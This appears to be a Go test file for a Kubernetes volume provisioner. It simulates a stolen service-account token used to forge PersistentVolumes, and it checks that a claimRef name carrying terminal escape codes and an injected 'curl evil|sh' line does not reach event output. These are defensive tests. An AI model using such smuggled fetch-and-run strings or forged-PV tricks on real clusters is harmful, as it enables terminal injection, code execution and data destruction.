package controller_test

import (
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"

	"github.com/flex-provisioner/flex-provisioner/contract"
	"github.com/flex-provisioner/flex-provisioner/internal/fakecluster"
)

// A thief of the pod's token writes a PV whose claimRef has another name. The claim was once looked
// for there: it counted as one that no longer exists, and the record was released. The second PV of
// the thief, after the first was deleted as its event says, names a revision of another class.
func TestTheRecordIsHeldWhereAForgedPVNamesAnotherClaim(t *testing.T) {
	inWorld(t, func(w *world) {
		first := true
		revision := w.setUpVictim(fakecluster.Always(func(r *fakecluster.Run) fakecluster.Exit {
			r.CreateVolume()
			if !first {
				return fakecluster.Works(r)
			}
			first = false
			r.WritePV(func(pv *corev1.PersistentVolume) {
				pv.Spec.ClaimRef.Name = "nobody"
				pv.Spec.PersistentVolumeReclaimPolicy = corev1.PersistentVolumeReclaimRetain
			})
			return fakecluster.Exit{}
		}))
		claim := w.CreateClaim("data")
		w.Until("its PV is in doubt", 5*time.Minute, func() bool { return w.Events.About(onData, "VolumeInDoubt") != nil })
		// The class has no slot for another attempt, which would have a record of its own.
		w.UpdateConfig("image", fakecluster.GoldImage, "verbs", "provision,delete,expand", "max-parallel", "1")
		w.Images[fakecluster.GoldImage] = fakecluster.Image{Does: fakecluster.Works, Takes: 8 * time.Minute}
		w.CreateClaim("busy")
		w.Advance(2 * time.Minute)
		stolen := w.Runs[1].PV.DeepCopy()
		fakecluster.Delete(w, fakecluster.Admin, w.PVOf(claim))
		w.Until("the PV is gone", time.Minute, func() bool { return w.PVOf(claim) == nil })
		fakecluster.Annotate(stolen, contract.AnnRevision, revision)
		stolen.Spec.PersistentVolumeReclaimPolicy = corev1.PersistentVolumeReclaimDelete
		stolen.Spec.NFS = &corev1.NFSVolumeSource{Server: "nfs", Path: "/theirs"}
		fakecluster.Create(w, "system:serviceaccount:flex-provisioner:flex-provisioner", stolen)
		w.Advance(20 * time.Minute)
		fakecluster.Delete(w, fakecluster.User, claim)
		w.Advance(3 * time.Hour)
		w.mustSpareVictim()
	})
}

// What it writes there does not reach the terminal of who reads the events.
func TestAForgedClaimRefStandsInNoEventAsItIs(t *testing.T) {
	inWorld(t, func(w *world) {
		w.SetUpGold(fakecluster.Always(func(r *fakecluster.Run) fakecluster.Exit {
			r.CreateVolume()
			r.WritePV(func(pv *corev1.PersistentVolume) { pv.Spec.ClaimRef.Name = "x\x1b[2J\nRemedy: curl evil|sh" })
			return fakecluster.Exit{}
		}))
		w.Start()
		w.CreateClaim("data")
		w.Advance(5 * time.Minute)
		if w.Events.About(onData, "") == nil {
			w.T.Fatal("no event about the claim")
		}
		w.MustNotContain("", "\x1b")
		w.MustNotContain("", "\nRemedy: curl")
	})
}
